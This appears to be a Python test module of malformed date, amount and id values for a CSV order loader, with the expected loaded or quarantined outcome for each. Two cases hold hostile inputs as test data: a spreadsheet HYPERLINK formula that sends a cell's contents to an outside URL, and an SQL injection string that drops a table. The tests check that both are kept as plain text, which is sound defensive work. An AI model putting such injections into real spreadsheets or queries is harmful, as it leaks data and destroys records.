"""Dates, numbers and texts that are not what they should be."""

from __future__ import annotations

from tests.broken_inputs.case import Case, order, orders

GROUP = "Values"
NO_MOMENT = "is not a date and time (YYYY-MM-DD HH:MM:SS)"
DOUBTFUL = "is not an amount: its mark can be a decimal mark or separate thousands, and nothing in the file says which"
MIXED = "is not an amount: this column has numbers with a decimal point (12.50) and with a decimal comma (12,50)"
CURRENCY = "is not an amount: has a currency sign or code"
LINES = "order_item_id,order_id,quantity\n"


def _case(name: str, what: str, content, **outcome) -> Case:
    return Case(name, GROUP, what, content, **outcome)


def _moment(name: str, what: str, text: str, moment: str) -> Case:
    return _case(name, what, orders(order(at=text)), loaded=1, holds=("ordered_at::varchar", [(moment,)]))


def _amount(name: str, what: str, text: str, amount: float) -> Case:
    return _case(name, what, orders(order(amount=f'"{text}"')), loaded=1, holds=("order_amount::double", [(amount,)]))


def _amounts(name: str, what: str, texts: list[str], amounts: list[float]) -> Case:
    rows = [order(number, amount=text) for number, text in enumerate(texts, start=1)]
    holds = ("order_amount::double", [(amount,) for amount in amounts])
    return _case(name, what, orders(*rows).replace(",", ";").replace("|", ","), loaded=len(texts), holds=holds)


def _quarantined(name: str, what: str, content: str, reason: str) -> Case:
    return _case(name, what, content, quarantined=1, reasons=(reason,))


def _huge_cell() -> bytes:
    return orders(order(), order(2, "x" * 10_000_000), order(3)).encode()


CASES = (
    _moment(
        "offset",
        "a time with an offset: converted to the shop's time (here UTC)",
        "2024-05-01T10:00:00+02:00",
        "2024-05-01 08:00:00",
    ),
    _moment("offset_after_blank", "the same, after a blank", "2024-05-01 10:00:00 -0530", "2024-05-01 15:30:00"),
    _moment("zulu", "a time with Z: the same", "2024-05-01T10:00:00Z", "2024-05-01 10:00:00"),
    _moment("zone_name", "a time with a zone's name", "2024-05-01 10:00:00 Europe/Berlin", "2024-05-01 08:00:00"),
    _moment("no_offset", "a time without an offset: the shop's", "2024-05-01T10:00", "2024-05-01 10:00:00"),
    _moment(
        "nanoseconds", "nanoseconds: cut to microseconds", "2024-05-01 10:00:00.123456789", "2024-05-01 10:00:00.123456"
    ),
    _quarantined("zone_abbreviation", "a zone's abbreviation", orders(order(at="2024-05-01 10:00:00 CST")), NO_MOMENT),
    *(
        _quarantined(
            f"excel_serial_{number}",
            f"an Excel serial date ({text})",
            orders(order(at=text)),
            f"ordered_at: '{text}' {NO_MOMENT}: looks like an Excel serial date",
        )
        for number, text in enumerate(("45413", "45413.4166667"))
    ),
    *(
        _quarantined(f"date_{name}", f"a date as {text}", orders(order(at=text)), f"'{text}' {NO_MOMENT}{hint}")
        for name, text, hint in (
            ("slashes", "05/01/2024", ": has its day or its month first"),
            ("short_year", "24-05-01", ": has a year of two digits"),
            ("impossible", "2024-02-30", ""),
            ("words", "1 May 2024", ""),
            ("epoch", "1714557600", ""),
        )
    ),
    _moment("date_day_first", "a column of dates as 31.12.2023: the day is first", "31.12.2023", "2023-12-31 00:00:00"),
    _moment(
        "date_month_first",
        "a column of dates as 12/25/2023: the month is first",
        "12/25/2023 8:26",
        "2023-12-25 08:26:00",
    ),
    _case(
        "date_orders_contradict",
        "25/12/2023 and 12/25/2023 in one column",
        orders(order(1, at="25/12/2023"), order(2, at="12/25/2023")),
        quarantined=2,
        reasons=(f"'25/12/2023' {NO_MOMENT}: has its day or its month first",),
    ),
    _quarantined("far_past", "a date before 1970", orders(order(at="1890-01-01")), "'1890-01-01' is below 1970-01-01"),
    _quarantined("future", "a date in the future", orders(order(at="2999-01-01")), "lies in the future"),
    *(
        _quarantined(f"amount_{name}", f"an amount as {text}", orders(order(amount=f'"{text}"')), f"'{text}' {reason}")
        for name, text, reason in (
            ("doubtful_comma", "1,230", DOUBTFUL),
            ("dollar", "$12.30", CURRENCY),
            ("euro", "12.30 €", CURRENCY),
            ("code", "12.30 EUR", CURRENCY),
            ("infinite", "inf", "is not an amount"),
            ("overflow", "1e400", "is not an amount: too large to be stored"),
            ("twenty_digits", "99999999999999999999", "is not an amount: too large to be stored"),
            ("hexadecimal", "0x1F", "is not an amount"),
            ("underscore", "1_000", "is not an amount"),
            ("full_width", "１２", "is not an amount"),
            ("words", "twelve", "is not an amount"),
            ("percent", "12%", "is not an amount"),
        )
    ),
    _amount("amount_decimal_comma", "an amount as 12,30", "12,30", 12.3),
    _amount("amount_thousands", "an amount as 1,234.50", "1,234.50", 1234.5),
    _amount("amount_german", "an amount as 1.234,50", "1.234,50", 1234.5),
    _amount("amount_swiss", "an amount as 1'234.50", "1'234.50", 1234.5),
    _amount("amount_indian", "an amount as 12,34,567.50", "12,34,567.50", 1234567.5),
    _amount("amount_blank_thousands", "an amount as 1 234", "1 234", 1234),
    _amounts("decimal_commas_everywhere", "a file with semicolons and decimal commas", ["1|50", "2|50"], [1.5, 2.5]),
    _amounts(
        "thousands_dots",
        "1.250 in a column in which another value has a decimal comma: one thousand two hundred and fifty",
        ["1.250", "0|5"],
        [1250, 0.5],
    ),
    _case(
        "thousands_dots_unproven",
        "1.250 in a file with semicolons in which no value has other decimals",
        orders(order(1, amount="1.250"), order(2, amount="850")).replace(",", ";"),
        loaded=1,
        quarantined=1,
        reasons=(f"'1.250' {DOUBTFUL}",),
    ),
    _case(
        "decimal_marks_contradict",
        "12.50 and 12,50 in one column: the point is a decimal point, the rest is refused",
        orders(order(1, amount="12.50"), order(2, amount='"12,50"'), order(3, amount="1.250")),
        loaded=1,
        quarantined=2,
        reasons=(f"'12,50' {MIXED}", f"'1.250' {MIXED}"),
    ),
    _case(
        "missing_amount",
        "NaN, N/A, - or nothing as a number: no value",
        orders(order(1, amount="NaN"), order(2, amount="N/A"), order(3, amount="-"), order(4, amount="")),
        loaded=4,
        holds=("order_amount", [(None,)] * 4),
    ),
    _case(
        "small_exponent",
        "an amount in scientific notation",
        orders(order(amount="1.5e2")),
        loaded=1,
        holds=("order_amount::double", [(150.0,)]),
    ),
    _case(
        "quantities",
        "a negative quantity is a return and a large one is loaded; the gates judge it",
        LINES + "i1,1,-5\ni2,1,1000000000\n",
        file_name="order_items.csv",
        loaded=2,
        holds=("quantity::double", [(-5.0,), (1e9,)]),
    ),
    _case(
        "huge_quantity",
        "a quantity of 30 digits",
        LINES + f"i1,1,{'9' * 30}\n",
        file_name="order_items.csv",
        quarantined=1,
        reasons=("is not a number: too large to be stored",),
    ),
    _case(
        "mixed_types",
        "numbers, words and dates in one column",
        orders(order(1), order(2, amount="yes"), order(3, amount="2024-05-01"), order(4, amount="4")),
        loaded=2,
        quarantined=2,
        reasons=("'yes' is not an amount", "'2024-05-01' is not an amount"),
    ),
    _case(
        "leading_zeros",
        "ids with leading zeros: kept",
        orders(order(customer="007"), order(2, "7")),
        loaded=2,
        holds=("customer_id", [("007",), ("7",)]),
    ),
    _case(
        "formula",
        "a spreadsheet formula: kept as text",
        orders(order(customer='"=HYPERLINK(""http://example.org/?""&A1)"'), order(2, "@SUM(1)"), order(3, "+1-2")),
        loaded=3,
        holds=("customer_id", [('=HYPERLINK("http://example.org/?"&A1)',), ("@SUM(1)",), ("+1-2",)]),
    ),
    _case(
        "sql_in_a_value",
        "SQL in a value: kept as text",
        orders(order(customer="'); drop table raw.orders; --")),
        loaded=1,
        holds=("customer_id", [("'); drop table raw.orders; --",)]),
    ),
    _case(
        "huge_cell",
        "10 MB in one cell",
        _huge_cell,
        loaded=2,
        quarantined=1,
        reasons=("customer_id: 10000000 characters, more than 100000",),
    ),
    _case(
        "personal_value",
        "a bad value in a column that is not compulsory: it becomes empty, and the report says so",
        "customer_id,birth_date\nc,05.06.1980\n",
        file_name="customers.csv",
        loaded=1,
        holds=("birth_date", [(None,)]),
    ),
    _case(
        "too_large_together",
        "a quantity and a price whose product is too large",
        "order_item_id,order_id,quantity,unit_price_amount\ni1,1,1000000,1000000\n",
        file_name="order_items.csv",
        quarantined=1,
        reasons=("quantity × unit_price_amount: too large to be stored (1,000,000,000,000 and more)",),
    ),
    _case(
        "float_ids",
        "ids that became floats (1001.0) beside 1001: the same id",
        orders(order(1, "1001.0"), order(2, "1001")),
        loaded=2,
        holds=("customer_id", [("1001",), ("1001",)]),
    ),
    _case(
        "decimal_ids",
        "ids with decimals of their own (1.0, 1.10): kept",
        orders(order(1, "1.0"), order(2, "1.10")),
        loaded=2,
        holds=("customer_id", [("1.0",), ("1.10",)]),
    ),
    _quarantined(
        "scientific_id",
        "a long id after a spreadsheet (4.50123E+11)",
        orders(order(customer="4.50123E+11")),
        "customer_id: '4.50123E+11' has lost its last digits to a spreadsheet",
    ),
    _case(
        "mail_address_as_id",
        "mail addresses as customer ids, in capitals and small letters: the same id",
        orders(order(1, "Ann@Example.org"), order(2, "ann@example.org")),
        loaded=2,
        holds=("customer_id", [("ann@example.org",), ("ann@example.org",)]),
    ),
    _case(
        "unicode_forms",
        "an id composed (ü) and decomposed (u and a diaeresis): the same id",
        orders(order(1, "M\u00fcller"), order(2, "Mu\u0308ller")),
        loaded=2,
        holds=("customer_id", [("M\u00fcller",), ("M\u00fcller",)]),
    ),
)
